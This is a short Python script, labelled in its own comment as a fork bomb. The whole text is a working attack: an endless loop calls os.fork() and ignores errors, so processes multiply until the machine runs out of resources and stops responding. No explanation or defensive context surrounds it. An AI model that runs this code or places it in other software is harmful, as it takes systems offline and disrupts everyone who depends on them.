# A fork bomb: every process starts more of them, forever.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
